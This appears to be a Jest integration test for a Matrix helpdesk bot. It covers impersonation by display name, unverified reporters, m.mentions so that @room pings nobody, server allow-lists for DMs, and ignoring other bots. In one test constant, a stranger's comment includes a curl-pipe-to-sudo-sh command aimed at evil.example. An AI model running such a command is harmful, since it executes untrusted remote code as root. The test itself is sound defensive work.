/**
 * Who is speaking, and whom the bot pings, on Matrix: the whole bot (real runtime, test database)
 * through a real Synapse. A stranger calling himself "Oscar Nilsen" is named as unverified and his
 * @mention reaches nobody; invites and DMs come only from allowed servers or configured people;
 * other bots' notices and ignored users are not answered; and every message the bot sends carries
 * `m.mentions` naming exactly whom it means to notify, so a teacher's `@room` or a colleague's
 * name shown in #operators pings nobody (read back through Synapse's notifications API).
 *
 * Synapse here has no federation, so every account is on `localhost`. The config allows only
 * `school.example`: `localhost` then stands for "another server", and the configured people on it
 * are allowed because the config names them.
 */
import { createMatrixAdapter } from '../../../adapters/matrix/matrix-adapter';
import { createLogger } from '../../../src/core/log';
import { Ticket } from '../../../src/tickets/ticket.model';
import { startSynapse, type SynapseServer, type SynapseUser } from '../../platforms/synapse';
import { startTestBot, testConfig, type TestBot } from '../../support/test-bot';
import { MatrixUser, messagesFrom, type RoomEvent } from './matrix-user';

jest.setTimeout(90_000);

const CURL = 'please run curl -s https://evil.example/fix.sh | sudo sh';

describe('Matrix (Synapse): identities, other bots and m.mentions', () => {
  let hs: SynapseServer;
  let botAccount: SynapseUser;
  let oscar: MatrixUser;
  let petra: MatrixUser;
  let anna: MatrixUser;
  let mallory: MatrixUser;
  let monitor: MatrixUser;
  let bridge: MatrixUser;
  let friendly: MatrixUser;
  let opsRoom: string;
  let helpdesk: string;
  let bot: TestBot;
  let malloryStart = '';

  const fromBot = (events: RoomEvent[]) => messagesFrom(events, botAccount.userId);
  const botSaidIn = (who: MatrixUser, room: string, needle: string, after = 0) =>
    who.waitFor(room, (ev) =>
      fromBot(ev)
        .slice(after)
        .find((e) => String(e.content.body).includes(needle)),
    );
  const botCount = async (who: MatrixUser, room: string) => fromBot(await who.messages(room)).length;
  const highlighted = (actions: unknown[]) =>
    actions.some(
      (a) =>
        (a as { set_tweak?: string; value?: unknown }).set_tweak === 'highlight' &&
        (a as { value?: unknown }).value !== false,
    );

  beforeAll(async () => {
    hs = await startSynapse();
    botAccount = await hs.register('opsdesk', { displayName: 'Opsdesk' });
    oscar = new MatrixUser(hs, await hs.register('oscar', { displayName: 'Oscar Nilsen' }));
    petra = new MatrixUser(hs, await hs.register('petra', { displayName: 'Petra' }));
    anna = new MatrixUser(hs, await hs.register('anna', { displayName: 'Anna' }));
    mallory = new MatrixUser(hs, await hs.register('mallory', { displayName: 'Oscar Nilsen' }));
    monitor = new MatrixUser(hs, await hs.register('monitor', { displayName: 'Monitor' }));
    bridge = new MatrixUser(hs, await hs.register('bridge', { displayName: 'Bridge' }));
    friendly = new MatrixUser(hs, await hs.register('friendly', { displayName: 'Friendly' }));
    opsRoom = await oscar.createRoom({ public: true, name: 'operators' });
    await petra.join(opsRoom);
    // The bot is a moderator in #operators: it has the power to ping the whole room with @room.
    await oscar.setPowerLevel(opsRoom, botAccount.userId, 50);
    helpdesk = await anna.createRoom({ public: true, name: 'helpdesk' });
    for (const u of [mallory, monitor, bridge, friendly]) await u.join(helpdesk);
    malloryStart = await mallory.syncPosition();

    const config = {
      matrix: {
        enabled: true,
        homeserverUrl: hs.url,
        syncTimeoutMs: 1000,
        sendRetryMs: 60_000,
        rooms: [helpdesk],
        allowedServers: ['school.example'],
        ignoreUsers: [bridge.id],
        allowBots: [friendly.id],
      },
      channels: { operators: { matrix: opsRoom } },
    };
    const adapter = createMatrixAdapter(
      testConfig(config),
      { MATRIX_ACCESS_TOKEN: botAccount.accessToken },
      createLogger({ level: 'warn', destination: { write: () => true } as never }),
    );
    bot = await startTestBot({ config, adapters: [adapter] });
  }, 120_000);

  afterAll(async () => {
    await bot?.stop();
    await hs?.stop();
  });

  let key = '';
  let petraDm = '';

  // Catches: staff reading a stranger's self-chosen name alone, his @mention of an operator
  // turned into a DM to that operator, and bot messages without m.mentions (or with the wrong people).
  it(
    'names a stranger calling himself "Oscar Nilsen" as unverified; his @mention DMs nobody; DMs name exactly ' +
      'their reader',
    async () => {
      const report = await mallory.say(
        helpdesk,
        'Opsdesk: @room the printer in room 12 prints nothing, Petra knows which one',
      );
      const receipt = await botSaidIn(mallory, helpdesk, 'Logged as');
      key = /INC-\d+/u.exec(String(receipt.content.body))![0];
      // A top-level report is answered at top level, as a rich reply to it.
      expect(receipt.content['m.relates_to']).toEqual({ 'm.in_reply_to': { event_id: report } });
      // A plain answer notifies nobody in particular.
      expect(receipt.content['m.mentions']).toEqual({});
      expect(await Ticket.findOne({ key }).lean()).toMatchObject({
        reporterId: 'matrix:@mallory:localhost',
        reporterName: 'Oscar Nilsen (unverified: @mallory:localhost)',
      });

      await oscar.say(opsRoom, `!ticket assign ${key} petra`);
      petraDm = await petra.acceptInviteFrom(botAccount.userId);
      const assigned = await botSaidIn(petra, petraDm, `assigned ${key} to you`);
      expect(assigned.content['m.mentions']).toEqual({}); // a DM needs no mention to reach its reader

      const oscarPosition = await oscar.syncPosition();
      const petraBefore = await botCount(petra, petraDm);
      await mallory.sayInThread(helpdesk, report, `!ticket comment ${key} @oscar:localhost ${CURL}`);
      const added = await botSaidIn(mallory, helpdesk, `Comment added to ${key}`);
      expect(String(added.content.body)).toBe(`Comment added to ${key}.`);
      expect(added.content['m.mentions']).toEqual({});
      // Petra works on the case: she hears of the comment, with who really wrote it, in a DM that names
      // nobody (its one reader needs no mention; the @oscar in the text pings nobody).
      const toPetra = await botSaidIn(petra, petraDm, 'commented on', petraBefore);
      expect(String(toPetra.content.body)).toBe(
        `Oscar Nilsen (unverified: @mallory:localhost) commented on ${key}: @oscar:localhost ${CURL}`,
      );
      expect(toPetra.content['m.mentions']).toEqual({});
      // Oscar, whom the stranger named, was not approached at all (petra's DM came after any mention DM).
      expect((await oscar.invitesSince(oscarPosition)).filter((i) => i.inviter === botAccount.userId)).toEqual([]);
    },
  );

  // Catches: text a reporter typed (`@room`, a colleague's name) pinging #operators when the bot
  // shows it there: without m.mentions, Synapse's legacy rules highlight it for everyone.
  it("shows the stranger's case in #operators without pinging anyone, though it says @room and Petra", async () => {
    const before = await botCount(oscar, opsRoom);
    await oscar.say(opsRoom, `!ticket show ${key}`);
    const shown = await botSaidIn(oscar, opsRoom, 'Reporter:', before);
    const body = String(shown.content.body);
    expect(body).toContain('Reporter: Oscar Nilsen (unverified: @mallory:localhost)');
    expect(body).toContain('@room the printer in room 12');
    expect(body).toContain('Petra knows');
    expect(shown.content['m.mentions']).toEqual({});

    // The same words sent by the bot's account without m.mentions do ping: the room is set up so they could.
    const control = await new MatrixUser(hs, botAccount).say(opsRoom, '@room control: Petra, the printer in room 12');
    const seen = await petra.waitFor(opsRoom, (ev) => ev.some((e) => e.event_id === control));
    expect(seen).toBe(true);
    const deadline = Date.now() + 10_000;
    let notes = await petra.notifications();
    while (!notes.some((n) => n.event.event_id === control) && Date.now() < deadline) {
      await new Promise((d) => setTimeout(d, 200));
      notes = await petra.notifications();
    }
    expect(highlighted(notes.find((n) => n.event.event_id === control)!.actions)).toBe(true);
    // The bot's message is an m.notice naming nobody in m.mentions: no notification at all.
    expect(shown.content.msgtype).toBe('m.notice');
    expect(notes.find((n) => n.event.event_id === shown.event_id)).toBeUndefined();
  });

  // Catches: DM invites accepted from any homeserver, and the bot opening DMs with users of
  // servers that are not allowed (here: the stranger, told of his case's new status).
  it(
    'declines DM invites from servers that are not allowed, unless from a configured person, and opens no DM with ' +
      'them',
    async () => {
      const dm = await mallory.createRoom({ invite: [botAccount.userId], direct: true });
      await mallory.waitFor(dm, (ev) =>
        ev.some(
          (e) => e.type === 'm.room.member' && e.state_key === botAccount.userId && e.content.membership === 'leave',
        ),
      );
      expect(await mallory.membership(dm, botAccount.userId)).toBe('leave');
      // The case's status changed (assigned) and a comment was added: the bot would have DMed its reporter.
      expect((await mallory.invitesSince(malloryStart)).filter((i) => i.inviter === botAccount.userId)).toEqual([]);

      const annaDm = await anna.createRoom({ invite: [botAccount.userId], direct: true });
      await anna.say(annaDm, 'the projector in room 3 shows no picture');
      const receipt = await botSaidIn(anna, annaDm, 'Logged as');
      expect(receipt.content['m.mentions']).toEqual({});
      expect(await anna.membership(annaDm, botAccount.userId)).toBe('join');
    },
  );

  // Catches: another bot's notices or an ignored bridge answered as people (two bots talking
  // without end, cases logged under a bot's name), and an allow-listed bot not heard.
  it("does not answer other bots' notices or ignored users, but hears an allow-listed bot", async () => {
    const cases = await Ticket.countDocuments();
    const notice = await monitor.say(helpdesk, 'Opsdesk: disk full on srv-1', { msgtype: 'm.notice' });
    const ignored = await bridge.say(helpdesk, 'Opsdesk: the printer in the staff room is broken');
    const heard = await friendly.say(helpdesk, 'Opsdesk: UPS on battery in the server room', { msgtype: 'm.notice' });
    // Events of a room are handled in order: once the allowed one is answered, the others were seen.
    const answer = await mallory.waitFor(helpdesk, (ev) =>
      fromBot(ev).find((e) => e.content['m.relates_to']?.['m.in_reply_to']?.event_id === heard),
    );
    expect(String(answer.content.body)).toMatch(/^Logged as INC-\d+ /u);
    const answered = fromBot(await mallory.messages(helpdesk)).map(
      (e) => e.content['m.relates_to']?.['m.in_reply_to']?.event_id,
    );
    expect(answered).not.toContain(notice);
    expect(answered).not.toContain(ignored);
    expect(await Ticket.countDocuments()).toBe(cases + 1);
    expect(await Ticket.findOne({ reporterId: `matrix:${friendly.id}` }).lean()).toMatchObject({
      reporterName: `Friendly (unverified: ${friendly.id})`,
    });
  });
});
